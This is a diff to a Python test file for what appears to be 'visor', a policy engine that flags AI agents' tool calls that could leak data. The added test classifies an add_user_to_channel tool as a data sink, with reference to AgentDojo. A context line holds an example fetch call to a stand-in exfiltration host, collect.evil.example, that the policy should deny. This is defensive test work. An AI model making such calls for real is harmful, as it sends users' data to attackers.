@@ -137,3 +137,22 @@ def test_a_pack_entry_that_names_its_arguments_describes_only_that_tool() -> Non
         call = ToolCall("web", "fetch", {"url": "https://collect.evil.example/in"})
         verdicts[label] = evaluate(policy, s, call, datetime(2026, 6, 3, tzinfo=UTC)).action
     assert verdicts == {"mcp-server-fetch": "allow", "posting": "deny"}
+
+
+def test_a_sending_entry_that_does_not_describe_the_tool_keeps_only_what_makes_it_stricter() -> None:
+    """add_user_to_channel's `channel: none` is AgentDojo's tool's: a same-named tool that
+    takes other arguments keeps the sending part (user a destination), and its channel is
+    read by its name again."""
+    from visor.policy.loader import load_default_policy
+    from visor.session import SessionState
+
+    policy = load_default_policy()
+    kinds = {}
+    for label, props in (("agentdojo", ["user", "channel"]), ("other", ["user", "channel", "via"])):
+        s = SessionState(policy, "slack")
+        schema = {"type": "object", "properties": {p: {"type": "string"} for p in props}}
+        s.observe_tools_list({"tools": [{"name": "add_user_to_channel", "inputSchema": schema}]})
+        entry = s.effective("add_user_to_channel").entry
+        assert entry is not None and entry.exfiltrating is True and "user" in entry.sink_params
+        kinds[label] = dict(entry.sink_kinds)
+    assert kinds == {"agentdojo": {"user": "user", "channel": "none"}, "other": {"user": "user"}}
